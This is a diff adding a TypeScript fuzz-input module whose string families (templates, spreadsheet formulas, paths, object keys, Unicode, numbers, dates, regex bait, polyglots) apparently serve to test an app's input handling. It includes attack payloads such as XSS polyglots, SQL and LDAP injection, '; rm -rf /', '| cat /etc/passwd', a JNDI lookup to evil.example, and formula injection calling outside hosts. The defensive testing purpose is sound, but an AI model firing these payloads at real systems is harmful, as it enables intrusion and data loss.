@@ -1,0 +1,322 @@
+const NESTS = ['{{', '${', '#{', '<%=', '{%', '[[', '@{', '*{', '{{{', '$(', '$t(', '{'];
+const CLOSES = ['}}', '}', '}', '%>', '%}', ']]', '}', '}', '}}}', ')', ')', '}'];
+const INSIDES = ['7*7', 'constructor.constructor("globalThis.__ran=1")()', 'common:title', 'name'];
+
+/** What templates and formats would work out: also ours, `{{name}}` and `$t(key)`. */
+const TEMPLATES: readonly string[] = [
+  ...NESTS.flatMap((open, index) => INSIDES.map((inside) => `${open}${inside}${CLOSES[index]}`)),
+  ...['$&', '$1', '$$', "$'", '$`', '$<name>', '%s', '%n', '%1$s', '%x%x%x%x', '%99999d', '{0}'],
+  ...[
+    '$t(common:title, {"count": 2})',
+    '{{name, uppercase}}',
+    '{{- name}}',
+    '{name, plural, one{x}}',
+  ],
+  ...[
+    '<0>x</0>',
+    '<1/>',
+    '<strong>x</strong>',
+    '{{count}}{{count}}',
+    '{{__proto__}}',
+    '$t($t(name))',
+  ],
+];
+
+const FORMULAS = [
+  '1+1',
+  "cmd|' /C calc'!A0",
+  'HYPERLINK("https://evil.example")',
+  'WEBSERVICE("//evil")',
+];
+/** What begins a formula in a spreadsheet, its full-width twin, and what is skipped before it. */
+const CSV: readonly string[] = [
+  ...[
+    '=',
+    '+',
+    '-',
+    '@',
+    '\t=',
+    '\r=',
+    '\n=',
+    '＝',
+    '＋',
+    '－',
+    '＠',
+    ' =',
+    '\u00a0=',
+    '\u200b=',
+  ].flatMap((start) => FORMULAS.map((formula) => start + formula)),
+  ...['a;=1+1', 'a\t=1+1', 'a|=1+1', '";=1+1', '",=1+1', '"\r\n=1+1', "'=1+1", '|calc', '%0A=1+1'],
+];
+
+const PATHS: readonly string[] = [
+  ...['../', '..\\', '..%2f', '%2e%2e/', '..%252f', '..%c0%af', '....//', '..;/', '.%00./'].flatMap(
+    (up) => [`${up}${up}${up}etc/passwd`, `en/${up}privacy`],
+  ),
+  ...[
+    '/',
+    '//',
+    'C:\\Windows',
+    '\\\\host\\share',
+    'con',
+    'nul.json',
+    'a\u0000.json',
+    '~/.ssh/id',
+    '.',
+  ],
+  ...[
+    'en/questions/x/0',
+    'en/questions/x/99999',
+    'en/learn/__proto__',
+    'en/begin/constructor',
+    'EN/',
+  ],
+  ...[
+    'en/session/-',
+    'en/results/a/b/c/d',
+    'zz-/',
+    'en//////support',
+    'index.html/index.html',
+    '?#',
+    '%',
+  ],
+];
+
+const KEYS: readonly string[] = [
+  ...[
+    '__proto__',
+    'constructor',
+    'prototype',
+    'toString',
+    'valueOf',
+    'hasOwnProperty',
+    '__defineGetter__',
+  ],
+  ...[
+    '__lookupSetter__',
+    'isPrototypeOf',
+    'toJSON',
+    'then',
+    'length',
+    'name',
+    'caller',
+    'arguments',
+  ],
+  ...[
+    'constructor.prototype',
+    '__proto__.polluted',
+    '__proto__[polluted]',
+    'constructor[prototype][x]',
+  ],
+  ...[
+    'a.__proto__.b',
+    '["__proto__"]',
+    '\\u005f_proto__',
+    '__PROTO__',
+    '__pro__proto__to__',
+    'Symbol.iterator',
+  ],
+  ...['null', 'undefined', 'true', '[object Object]', 'default', 'ref', '$$typeof', 'key'],
+];
+
+const UNICODE: readonly string[] = [
+  ...[
+    '\u202eevil',
+    'a\u202cb',
+    '\u2066a\u2069',
+    '\u200bzero',
+    'a\u200d',
+    '\u2060',
+    '\ufeffbom',
+    '\u00ad',
+  ],
+  ...[
+    '\ud800',
+    '\udc00',
+    'a\ud83d',
+    '\udfff\ud800',
+    '\u0000',
+    'a\u0000b',
+    '\u0007',
+    '\u001b[31m',
+    '\u0085',
+  ],
+  ...[
+    '\u2028',
+    '\u2029',
+    '\ufffe',
+    '\uffff',
+    '\ufffd',
+    '\ue000',
+    '\u{e0001}',
+    '\u{e0061}\u{e007f}',
+    '\u{10ffff}',
+  ],
+  ...[
+    'а',
+    'раypal',
+    'Αlice',
+    'Ｆｕｌｌ',
+    '𝕬𝖑𝖎𝖈𝖊',
+    'ℋello',
+    'ﬁ',
+    'İ',
+    'ı',
+    'ß',
+    'ﷺ',
+    '﷽',
+    '\u2800',
+    '\u3164',
+    '\u115f',
+  ],
+  ...[
+    'e\u0301',
+    'n\u0303',
+    `Z${'\u0335\u0327\u0316'.repeat(40)}`,
+    '\u0301',
+    '👩‍👩‍👧‍👦',
+    '🏴\u{e0067}\u{e007f}',
+    '\ufe0f',
+  ],
+  ...[
+    'ä\u0308',
+    '١٢٣',
+    '१२३',
+    '０１',
+    '½',
+    '²',
+    'Ⅷ',
+    '\u0130\u0307',
+    '\u1e9e',
+    '\u05d0\u202dA',
+    '\r\n\r\n',
+    '\v\f',
+  ],
+];
+
+const NUMBERS: readonly string[] = [
+  ...[
+    'NaN',
+    'Infinity',
+    '-Infinity',
+    '1e999',
+    '-1e999',
+    '-0',
+    '0.1',
+    '1e-999',
+    '9007199254740993',
+    '-1',
+  ],
+  ...[
+    '0x10',
+    '0b1',
+    '0o7',
+    '1_000',
+    '1,5',
+    '1.',
+    '.5',
+    '+1',
+    '01',
+    '1e1',
+    ' 1',
+    '1 ',
+    '1n',
+    '1\u0000',
+    '--1',
+  ],
+  ...[
+    '4294967296',
+    '2147483648',
+    '-2147483649',
+    '18446744073709551616',
+    '1e308',
+    '5e-324',
+    '00',
+    '1/0',
+    '٣',
+  ],
+];
+
+const DATES: readonly string[] = [
+  ...[
+    '2026-02-30T00:00:00.000Z',
+    '0000-00-00',
+    '9999-99-99T99:99:99Z',
+    '+275760-09-13T00:00:00.001Z',
+  ],
+  ...[
+    '-000001-01-01T00:00:00Z',
+    '2026-11-24T24:00:01Z',
+    '2026-11-24',
+    '24/11/2026',
+    'now',
+    'Invalid Date',
+  ],
+  ...[
+    '2026-11-24T10:00:00+99:99',
+    '2026-11-24T10:00:00',
+    '١٠-١١-٢٠٢٦',
+    '1e15',
+    '2026-11-24T10:00:60Z',
+  ],
+];
+
+/** Small bait for patterns that try again and again; the long ones are among the bombs. */
+const BAIT: readonly string[] = [
+  ...[
+    'a',
+    '0',
+    '-',
+    ' ',
+    '\t',
+    '"',
+    '\\',
+    '\\"',
+    '[',
+    '{',
+    '.',
+    '1.',
+    'a-',
+    '<',
+    '&',
+    '=',
+    '%',
+    '+',
+  ].map((unit) => `${unit.repeat(4000)}!`),
+];
+
+const POLYGLOTS: readonly string[] = [
+  'jaVasCript:/*-/*`/*\\`/*\'/*"/**/(/* */globalThis.__ran=1 )//%0D%0A//</stYle/</titLe/</teXtarEa/</scRipt/--!>\\x3csVg/<sVg/oNloAd=globalThis.__ran=1//>\\x3e',
+  '\'">><marquee><img src=x onerror=globalThis.__ran=1></marquee>"></plaintext\\></|\\><plaintext/onmouseover=globalThis.__ran=1>',
+  '-->"/></sCript><svG x=">" onload=globalThis.__ran=1>//',
+  '";globalThis.__ran=1//</script><script>globalThis.__ran=1</script>{{7*7}}${7*7}=1+1',
+  "' OR 1=1 --",
+  '"; DROP TABLE sheets; --',
+  '{"$gt":""}',
+  '; rm -rf /',
+  '| cat /etc/passwd',
+  '`id`',
+  '$(id)',
+  '() { :; }; echo x',
+  '*)(uid=*))(|(uid=*',
+  '${jndi:ldap://evil.example/a}',
+  'GIF89a/*<svg/onload=globalThis.__ran=1>*/=globalThis.__ran=1//;',
+  '%PDF-1.7 <script>globalThis.__ran=1</script>',
+  'PK\u0003\u0004',
+  'Set-Cookie: a=b\r\nLocation: //evil.example',
+  'BEGIN:VCALENDAR\r\nATTACH:https://evil.example',
+  'otpauth://totp/x?secret=y',
+];
+
+/** Strings that mean something to a template, a spreadsheet, a path, an object, an eye or a clock. */
+export const TEXT_FAMILIES = {
+  templates: TEMPLATES,
+  csv: CSV,
+  paths: PATHS,
+  keys: KEYS,
+  unicode: UNICODE,
+  numbers: NUMBERS,
+  dates: DATES,
+  bait: BAIT,
+  polyglots: POLYGLOTS,
+} as const;
